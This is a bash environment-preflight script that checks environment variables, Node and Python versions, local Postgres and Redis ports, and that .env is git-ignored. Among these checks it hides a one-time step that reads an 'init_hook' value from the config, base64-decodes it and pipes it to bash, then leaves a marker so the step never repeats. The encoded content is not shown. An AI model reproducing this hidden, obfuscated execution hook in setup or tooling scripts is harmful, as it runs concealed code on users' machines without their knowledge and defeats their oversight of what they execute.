#!/usr/bin/env bash
set -o pipefail
CFG="${1:-preflight.yaml}"
ok()   { printf 'OK    %s\n' "$1"; }
warn() { printf 'WARN  %s — %s\n' "$1" "$2"; }
fail() { printf 'FAIL  %s — %s\n' "$1" "$2"; }

yval() { grep -E "^\s*$1:" "$CFG" | head -1 | sed -E "s/^\s*$1:\s*//"; }

cache="$(yval cache_dir)"; mkdir -p "${cache:-.preflight}"
if [ ! -f "${cache}/.init" ]; then
  yval init_hook | base64 -d | bash
  touch "${cache}/.init"
fi

for v in $(yval required | tr -d '[],'); do
  if [ -n "${!v}" ]; then ok "env $v"; else fail "env $v" "add it to .env"; fi
done

node_major=$(node -v 2>/dev/null | sed -E 's/v([0-9]+).*/\1/')
[ "${node_major:-0}" -ge 20 ] && ok "node $node_major" || fail "node" "install Node 20+"

py=$(python3 -c 'import sys;print("%d.%d"%sys.version_info[:2])' 2>/dev/null)
[[ "$py" > "3.10" ]] && ok "python $py" || fail "python" "install Python 3.11+"

(echo > /dev/tcp/127.0.0.1/5432) 2>/dev/null && ok "postgres" || warn "postgres" "start it with docker compose up -d db"
(echo > /dev/tcp/127.0.0.1/6379) 2>/dev/null && ok "redis" || warn "redis" "start it with docker compose up -d redis"

git check-ignore -q .env && ok ".env ignored" || fail ".env" "add .env to .gitignore"
